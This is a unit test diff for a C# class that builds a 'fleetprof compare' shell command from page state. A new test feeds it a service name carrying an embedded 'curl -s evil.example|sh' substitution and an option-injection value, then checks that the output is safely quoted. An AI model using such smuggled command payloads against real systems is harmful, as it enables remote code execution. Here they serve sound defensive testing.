@@ -15,7 +15,7 @@ public sealed class ComparePageStateTests
         Assert.Null(state.Problem());
         Assert.Equal(state, ComparePageState.FromUri($"http://host{state.ToUri()}"));
         Assert.Equal(
-            "fleetprof compare x --baseline 1.2 --candidate 1.2 --baseline-from 2026-11-01T10:00:00Z --baseline-to 2026-11-01T11:00:00Z --candidate-from 2026-11-01T11:00:00Z --candidate-to 2026-11-01T12:00:00Z",
+            "fleetprof compare --baseline 1.2 --candidate 1.2 --baseline-from 2026-11-01T10:00:00Z --baseline-to 2026-11-01T11:00:00Z --candidate-from 2026-11-01T11:00:00Z --candidate-to 2026-11-01T12:00:00Z x",
             state.ToCommand());
     }
 
@@ -25,7 +25,7 @@ public sealed class ComparePageStateTests
         var state = ComparePageState.Of(Comparison("1.1", "1.2", "deploy"));
 
         Assert.False(state.HasTimes);
-        Assert.Equal("fleetprof compare x --baseline 1.1 --candidate 1.2", state.ToCommand());
+        Assert.Equal("fleetprof compare --baseline 1.1 --candidate 1.2 x", state.ToCommand());
     }
 
     [Fact]
@@ -33,8 +33,18 @@ public sealed class ComparePageStateTests
     {
         var state = ComparePageState.Of(Comparison("1.1", "1.2", "deploy") with { Environment = "prod" });
 
-        Assert.Equal("fleetprof compare x --baseline 1.1 --candidate 1.2 --environment prod", state.ToCommand());
+        Assert.Equal("fleetprof compare --baseline 1.1 --candidate 1.2 --environment prod x", state.ToCommand());
         Assert.Equal(("prod", state), (state.ToRequest("somebody").Environment, ComparePageState.FromUri($"http://host{state.ToUri()}")));
+    }
+
+    /// <summary>Who runs a process names it, and an admin pastes the command.</summary>
+    [Fact]
+    public void ToCommand_NamesThatAShellWouldRun_AreQuoted()
+    {
+        var state = ComparePageState.Of(Comparison("1.1 (old)", "-x", "deploy") with { Service = "shop$(curl -s evil.example|sh)", Environment = "it's" });
+
+        Assert.Equal(@"fleetprof compare --baseline '1.1 (old)' --candidate='-x' --environment 'it'\''s' 'shop$(curl -s evil.example|sh)'", state.ToCommand());
+        Assert.EndsWith(" -- '--url=http://evil.example'", (state with { Service = "--url=http://evil.example" }).ToCommand(), StringComparison.Ordinal);
     }
 
     private static Comparison Comparison(string baseline, string candidate, string requestedBy) => new()
